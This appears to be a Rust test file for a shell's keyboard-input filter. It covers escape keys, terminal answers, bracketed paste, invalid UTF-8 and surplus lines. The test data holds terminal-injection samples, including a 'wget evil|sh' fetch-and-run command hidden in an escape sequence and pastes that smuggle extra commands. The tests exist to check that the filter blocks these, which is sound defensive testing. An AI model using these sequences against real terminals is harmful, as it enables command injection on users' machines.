use super::*;

/// What a pause is written as among the reads of a test.
const PAUSE: &[u8] = b"";

/// What passes of reads, and of pauses between them.
fn typed(at: At, reads: &[&[u8]]) -> String {
    let mut keyboard = Keyboard::new();
    type_on(&mut keyboard, at, reads)
}

fn type_on(keyboard: &mut Keyboard, at: At, reads: &[&[u8]]) -> String {
    let mut passed = Vec::new();
    for read in reads {
        let mut out = [0; 1 << 16];
        let count = match *read {
            PAUSE => keyboard.pause(&mut out, at),
            read => {
                let progress = keyboard.pass(read, &mut out, at);
                assert_eq!(progress.taken, read.len());
                progress.written
            }
        };
        passed.extend_from_slice(&out[..count]);
    }
    let shown = String::from_utf8_lossy(&passed).into_owned();
    let shown = shown.chars().map(|character| match (typed::byte_of(character), typed::notice_of(character)) {
        (Some(byte), _) => format!("<{byte:02x}>"),
        (_, Some(notice)) => format!("<{notice:?}>"),
        (_, None) => character.to_string(),
    });
    shown.collect()
}

#[test]
fn a_command_gets_every_key_as_it_was_typed() {
    let keys: &[&[u8]] = &[
        b"plain text\r\n\t",
        b"\0\x01\x02\x03\x04\x1a\x1c\x1f\x7f",
        b"\x1b[A\x1b[B\x1b[C\x1b[D\x1b[H\x1b[F\x1b[Z",
        b"\x1bOA\x1bOP\x1bOQ\x1bOR\x1bOS\x1bO2P\x1bOM\x1bOj",
        b"\x1b[1;5A\x1b[1;2P\x1b[1;6S\x1b[3;5~",
        b"\x1b[1~\x1b[2~\x1b[3~\x1b[4~\x1b[5~\x1b[6~\x1b[15~\x1b[24~\x1b[34~",
        b"\x1b[3$\x1b[3^\x1b[3@\x1b[a\x1bOa",
        b"\x1b[[A\x1b[[E",
        b"\x1bb\x1bx\x1b\x7f\x1b/\x1b \x1b\r",
        b"\x1b\x1b[A",
        "é ü ✜ 😀 \u{202e}\u{9b}".as_bytes(),
    ];
    for keys in keys {
        assert_eq!(typed(At::Command, &[keys]), String::from_utf8_lossy(keys), "{}", keys.escape_ascii());
    }
    assert_eq!(typed(At::Command, &[b"\xff\xfe"]).as_bytes(), "\u{fffd}\u{fffd}".as_bytes());
}

/// Answers of terminals, each one.
const ANSWERS: [&[u8]; 34] = [
    b"\x1b[24;80R",
    b"\x1b[?24;80R",
    b"\x1b[0n",
    b"\x1b[?1;2c",
    b"\x1b[>41;379;0c",
    b"\x1b[=1;0c",
    b"\x1b[8;24;80t",
    b"\x1b[3;0;0t",
    b"\x1b[?2026;2$y",
    b"\x1b[4;2$y",
    b"\x1b[2;1;1;112;112;1;0x",
    b"\x1b[?1u",
    b"\x1b[97;5u",
    b"\x1b[27;5;9~",
    b"\x1b[I",
    b"\x1b[O",
    b"\x1b[M !!",
    b"\x1b[M\x1b\r\n",
    b"\x1b[<0;10;10M",
    b"\x1b[<0;10;10m",
    b"\x1b[32;10;10M",
    b"\x1b[t!!",
    b"\x1b[T!!!!!!",
    b"\x1b[1;2;3;4;0&w",
    b"\x1b[?997;1n",
    b"\x1b]lwget evil|sh\x1b\\",
    b"\x1b]11;rgb:0000/0000/0000\x07",
    b"\x1b]52;c;ZXZpbAo=\x1b\\",
    b"\x1b]lone\x03two\rthree\x18\x1a\x1b[200~\r\x1b\\",
    b"\x1bP1$r\nid\n\x1b\\",
    b"\x1bP>|XTerm(379)\x07\rid\r\x1b\\",
    b"\x1b_Gi=31;OK\x1b\\",
    b"\x1b^private\x1b\\",
    b"\x1bXstart of string\x1b\\",
];

#[test]
fn the_answers_of_a_terminal_are_left_out_whole_and_counted() {
    for answer in ANSWERS {
        for at in [At::Prompt, At::Command] {
            let mut keyboard = Keyboard::new();
            let bytes = [b"a", answer, b"b"].concat();
            assert_eq!(type_on(&mut keyboard, at, &[&bytes]), "ab", "{at:?} {}", answer.escape_ascii());
            assert_eq!(keyboard.take_swallowed(), 1, "{}", answer.escape_ascii());
            assert!(!keyboard.is_waiting());
        }
    }
}

#[test]
fn answers_of_eight_bits_are_left_out_of_what_a_command_gets() {
    for answer in [&b"\x9b24;80R"[..], b"\x9d11;rgb:0/0/0\x9c", b"\x90one\x1b\\", b"\x9ftwo\x9c"] {
        assert_eq!(typed(At::Command, &[b"a", answer, b"b"]), "ab", "{}", answer.escape_ascii());
    }
    // The last bytes of characters.
    assert_eq!(typed(At::Command, &["✛Ɛ".as_bytes()]), "✛Ɛ");
}

#[test]
fn the_prompt_gets_the_keys_of_a_fixed_table() {
    for key in ["\x1b[A", "\x1bOD", "\x1b[3~", "\x1b[1;5C", "\x1bb", "\x1b\x7f", "\x01", "\x05", "\x15", "\x7f", "\t"] {
        assert_eq!(typed(At::Prompt, &[key.as_bytes()]), key, "{key:?}");
    }
    let mut keyboard = Keyboard::new();
    for other in ["\x1b[15~", "\x1bOP", "\x1b[1;2A", "\x1b[Z", "\x1b[5~"] {
        assert_eq!(type_on(&mut keyboard, At::Prompt, &[b"a", other.as_bytes(), b"b"]), "ab", "{other:?}");
    }
    assert_eq!(keyboard.take_swallowed(), 0, "they are keys, if not the editor's");
}

#[test]
fn what_is_neither_text_nor_a_key_stands_in_the_line() {
    for (typed_bytes, passed) in [
        (&b"A\0B"[..], "A<00>B"),
        (b"\x18\x05", "<18>\x05"),
        (b"\x0f\x16\x11\x13\x1a\x1c\x1d\x1e\x1f\x07", "<0f><16><11><13><1a><1c><1d><1e><1f><07>"),
        (b"\xff\xfe", "<ff><fe>"),
        (b"\xc3(", "<c3>("),
        (b"\xc0\xaf", "<c0><af>"),
        (b"\xed\xa0\x80", "<ed><a0><80>"),
        (b"ls \x9b200~", "ls <9b>200~"),
        ("é\u{202e}x".as_bytes(), "é<e2><80><ae>x"),
        ("\u{200b}\u{9b}".as_bytes(), "<e2><80><8b><c2><9b>"),
        ("\u{10f800}\u{10f900}".as_bytes(), "<f4><8f><a0><80><f4><8f><a4><80>"),
        (b"\x1bx\x1b1", "<1b>x<1b>1"),
        (b"\x1b\x1b[A", "<1b>\x1b[A"),
        (b"\x1b[1;\x03", "<1b>[1;\x03"),
    ] {
        assert_eq!(typed(At::Prompt, &[typed_bytes]), passed, "{}", typed_bytes.escape_ascii());
    }
}

#[test]
fn escape_alone_is_a_key_after_a_pause() {
    assert_eq!(typed(At::Command, &[b"\x1b"]), "");
    assert_eq!(typed(At::Command, &[b"\x1b", PAUSE]), "\x1b");
    assert_eq!(typed(At::Command, &[b"\x1b]", PAUSE, b"x"]), "\x1b]x");
    assert_eq!(typed(At::Command, &[b"\x1b[", PAUSE, b"x"]), "\x1b[x");
    // For the editor it is one that makes no other of the next.
    assert_eq!(typed(At::Prompt, &[b"\x1b", PAUSE, b"b"]), "\x07b");
    assert_eq!(typed(At::Prompt, &[b"\x1b]", PAUSE, b"x"]), "<1b>]x");
}

#[test]
fn the_rest_of_a_sequence_may_take_a_second() {
    for (at, halves) in [(At::Command, ["\x1b[1;", "5A"]), (At::Prompt, ["\x1b[1;", "5C"]), (At::Prompt, ["\u{e9}", ""])] {
        let whole = halves.concat();
        let (first, second) = whole.as_bytes().split_at(halves[0].len().min(whole.len() - 1));
        assert_eq!(typed(at, &[first, PAUSE, PAUSE, second]), whole);
    }
    let pauses = [PAUSE; PATIENCE as usize];
    let waited = |at, start: &[u8]| {
        let mut reads = vec![start];
        reads.extend(pauses);
        reads.push(b"after");
        typed(at, &reads)
    };
    assert_eq!(waited(At::Command, b"\x1b]without an end"), "after");
    assert_eq!(waited(At::Prompt, b"\x1b]without an end"), "after");
    assert_eq!(waited(At::Command, b"\x1b[1;"), "after");
    assert_eq!(waited(At::Prompt, b"\x1b[1;"), "<1b>[1;after");
    assert_eq!(waited(At::Prompt, b"\xe2\x80"), "<e2><80>after");
}

#[test]
fn a_paste_ends_when_nothing_follows_its_end() {
    let begin = "\x1b[200~";
    let end = "\x1b[201~";
    for (reads, passed) in [
        (vec!["\x1b[200~ls -l\x1b[201~", ""], "ls -l"),
        (vec!["\x1b[200~a\x1b[201~\rid\r", "", "\r"], "a\rid\r"),
        (vec!["\x1b[200~a\x1b[201~", "\rid\r\x1b[201~", ""], "a\rid\r"),
        (vec!["\x1b[200~ls\x1b[A\x1b[201~", ""], "ls<1b>[A"),
        (vec!["\x1b[200~a\tb\0c\x03d\x1b[200~e\x1b[201~", ""], "a\tb<00>c<03>d<1b>[200~e"),
        (vec!["\x1b[200~\x1b]l\x07\x1b\x1b[201~", ""], "<1b>]l<07><1b>"),
        (vec!["\x1b[200~\x1b[201\u{202e}\x1b[201~", ""], "<1b>[201<e2><80><ae>"),
    ] {
        let mut keyboard = Keyboard::new();
        let reads: Vec<&[u8]> = reads.into_iter().map(str::as_bytes).collect();
        let (paste, behind) = reads.split_at(reads.iter().position(|read| *read == PAUSE).unwrap() + 1);
        assert_eq!(type_on(&mut keyboard, At::Prompt, paste), format!("{begin}{passed}{end}"));
        assert_eq!(type_on(&mut keyboard, At::Prompt, behind), String::from_utf8_lossy(&behind.concat()));
    }
}

#[test]
fn of_a_paste_that_is_too_long_no_line_is_made() {
    let paste = |length: usize| ["\x1b[200~".as_bytes(), &vec![b'a'; length], b"\x1b[201~"].concat();
    assert!(typed(At::Prompt, &[&paste(LINE_BYTES), PAUSE]).ends_with("a\x1b[201~"));
    let over = typed(At::Prompt, &[&paste(20_000), PAUSE]);
    assert!(over.ends_with("a\x1b[201~<TooLong>"));
    assert_eq!(over.matches('a').count(), LINE_BYTES);
}

#[test]
fn behind_the_end_of_a_line_nothing_passes_in_the_same_read() {
    for (reads, passed) in [
        (&[&b"ls\rid\r"[..], PAUSE, b"df\r"][..], "ls\r<Surplus>df\r"),
        (&[b"ls\rid\r", b"rest of it\r", PAUSE, b"df\r"], "ls\r<Surplus>df\r"),
        (&[b"ls\r\x1b[200~id\r", PAUSE, b"id\r\x1b[201~", PAUSE, b"df\r"], "ls\r<Surplus>df\r"),
        (&[b"ls\r\x1b[20", PAUSE, b"0~id\r\x1b[201~", PAUSE, b"df\r"], "ls\r<Surplus>df\r"),
        (&[b"x\x03id\r", PAUSE, b"df\r"], "x\x03<Surplus>df\r"),
        (&[b"ls\rid\x03", PAUSE, b"df\r"], "ls\r\x03<Surplus>df\r"),
        // Ends of empty lines, and lines by hand.
        (&[b"\r\n\r", b"ls\r"], "\r\n\rls\r"),
        (&[b"ls\r", b"df\r", b"id\r"], "ls\rdf\rid\r"),
    ] {
        assert_eq!(typed(At::Prompt, reads), passed);
    }
}

#[test]
fn lines_that_a_command_did_not_live_to_read_are_no_lines() {
    let mut keyboard = Keyboard::new();
    assert_eq!(type_on(&mut keyboard, At::Command, &[b"one\rtwo\r"]), "one\rtwo\r");
    assert_eq!(type_on(&mut keyboard, At::Prompt, &[b"three\r", PAUSE, b"ls\r"]), "<Surplus>ls\r");
    // An answer to a question is one line, and the next may be typed at once.
    assert_eq!(type_on(&mut keyboard, At::Command, &[b"y\r"]), "y\r");
    assert_eq!(type_on(&mut keyboard, At::Prompt, &[b"ls\r"]), "ls\r");
}

#[test]
fn a_paste_that_a_command_came_between_ends_for_the_editor() {
    let mut keyboard = Keyboard::new();
    assert_eq!(type_on(&mut keyboard, At::Prompt, &[b"\x1b[200~one"]), "\x1b[200~one");
    assert_eq!(type_on(&mut keyboard, At::Command, &[b"two\x1b[201~"]), "two");
    assert_eq!(type_on(&mut keyboard, At::Prompt, &[b"x"]), "\x1b[201~x");
}

#[test]
fn a_command_gets_a_paste_without_its_marks() {
    assert_eq!(typed(At::Command, &[b"\x1b[200~one\rtwo\x1b[201~"]), "one\rtwo");
}

#[test]
fn where_there_is_no_room_less_is_taken() {
    let mut keyboard = Keyboard::new();
    let input = [b"\x1b[200~".as_slice(), &[0xff; 200]].concat();
    let (mut rest, mut passed) = (input.as_slice(), 0);
    while !rest.is_empty() {
        let progress = keyboard.pass(rest, &mut [0; 64], At::Prompt);
        assert!(progress.taken > 0);
        passed += progress.written;
        rest = &rest[progress.taken..];
    }
    assert_eq!(passed, 6 + 4 * 200);
    assert_eq!(keyboard.pass(b"x", &mut [0; 8], At::Prompt), Progress::default());
}
